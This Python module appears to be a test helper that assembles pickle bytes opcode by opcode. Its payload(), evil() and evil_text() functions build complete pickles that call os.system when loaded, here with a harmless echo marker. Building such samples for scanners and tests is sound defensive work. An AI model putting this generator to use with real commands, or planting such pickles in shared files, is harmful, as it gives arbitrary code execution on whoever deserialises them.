"""A pickle assembler: one small function per opcode, bytes out.

The pickler of the standard library only writes what a well-behaved writer would. The samples need
everything else, so they are put together opcode by opcode:

    PROTO4 + sg("os", "system") + text("echo hi") + TUPLE1 + REDUCE + STOP

Nothing here checks that the result makes sense: that is the point.
"""
import struct

MARKER = "pratique-sample"
COMMAND = f"echo {MARKER}"
CODE = f"print('{MARKER}', flush=True)"

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
REDUCE, BUILD, OBJ = b"R", b"b", b"o"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE = b"\x81", b"\x92", b"\x93", b"\x94"
EMPTY_LIST, EMPTY_DICT, EMPTY_TUPLE, EMPTY_SET = b"]", b"}", b")", b"\x8f"
APPEND, APPENDS, SETITEM, SETITEMS, ADDITEMS = b"a", b"e", b"s", b"u", b"\x90"
LIST, DICT, TUPLE, FROZENSET = b"l", b"d", b"t", b"\x91"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
BINPERSID, NEXT_BUFFER, READONLY_BUFFER = b"Q", b"\x97", b"\x98"


def proto(number):
    return b"\x80" + bytes([number])


PROTO2, PROTO4, PROTO5 = proto(2), proto(4), proto(5)


def raw(value):
    """Text as UTF-8, bytes as they are."""
    return value.encode() if isinstance(value, str) else value


# --- callables ------------------------------------------------------------------------------

def glob(module, name):
    """GLOBAL: two text lines."""
    return b"c" + raw(module) + b"\n" + raw(name) + b"\n"


def inst(module, name):
    """INST: the callable as two text lines; its arguments lie above the last MARK."""
    return b"i" + raw(module) + b"\n" + raw(name) + b"\n"


def sg(module, name):
    """STACK_GLOBAL on two literals."""
    return text(module) + text(name) + STACK_GLOBAL


def ext1(code):
    return b"\x82" + bytes([code])


def ext2(code):
    return b"\x83" + struct.pack("<H", code)


def ext4(code):
    return b"\x84" + struct.pack("<i", code)


# --- constants ------------------------------------------------------------------------------

def text(value):
    """SHORT_BINUNICODE, or BINUNICODE when the text is long."""
    data = raw(value)
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def binunicode(value):
    """BINUNICODE, as protocols 1 to 3 write every text."""
    data = raw(value)
    return b"X" + struct.pack("<I", len(data)) + data


def unicode_line(body):
    return b"V" + raw(body) + b"\n"


def string_line(body):
    """STRING: `body` with its quotes."""
    return b"S" + raw(body) + b"\n"


def data(value):
    """SHORT_BINBYTES, or BINBYTES when long."""
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    return b"B" + struct.pack("<I", len(value)) + value


def bytearray8(value):
    return b"\x96" + struct.pack("<Q", len(value)) + value


def int_line(body):
    return b"I" + raw(body) + b"\n"


def long_line(body):
    return b"L" + raw(body) + b"\n"


def float_line(body):
    return b"F" + raw(body) + b"\n"


def binfloat(value):
    return b"G" + struct.pack(">d", value)


def integer(value):
    """The shortest binary form that CPython would choose."""
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if 0 <= value < 65536:
        return b"M" + struct.pack("<H", value)
    if -2**31 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    body = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    if len(body) < 256:
        return b"\x8a" + bytes([len(body)]) + body
    return b"\x8b" + struct.pack("<i", len(body)) + body


# --- memo, frames ---------------------------------------------------------------------------

def put(index):
    return b"p" + raw(str(index)) + b"\n"


def get(index):
    return b"g" + raw(str(index)) + b"\n"


def binput(index):
    return b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)


def binget(index):
    return b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)


def frame(body, length=None):
    """FRAME around `body`; `length` lies."""
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


# --- shapes ---------------------------------------------------------------------------------

def tup(*items):
    """A tuple of already assembled items, in the short form if there is one."""
    body = b"".join(items)
    if len(items) == 0:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return body + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + body + TUPLE


def lst(*items):
    if not items:
        return EMPTY_LIST
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dic(*pairs):
    """A dict; keys and values alternate."""
    if not pairs:
        return EMPTY_DICT
    return EMPTY_DICT + MARK + b"".join(pairs) + SETITEMS


def call(function, *args):
    """REDUCE."""
    return function + tup(*args) + REDUCE


def new(cls, *args):
    """NEWOBJ."""
    return cls + tup(*args) + NEWOBJ


def slots(target, *pairs):
    """BUILD with the state (None, {name: value}): setattr on whatever `target` is."""
    return target + NONE + dic(*pairs) + TUPLE2 + BUILD


SYSTEM = sg("os", "system")


def payload():
    """Calls os.system with a harmless echo and leaves the result on the stack."""
    return call(SYSTEM, text(COMMAND))


def evil(extra=b""):
    """A whole protocol-4 pickle that runs the payload."""
    return PROTO4 + extra + payload() + STOP


def evil_text():
    """The same in protocol 0: text all the way, no magic bytes."""
    return glob("os", "system") + MARK + string_line(f"'{COMMAND}'") + TUPLE + REDUCE + STOP
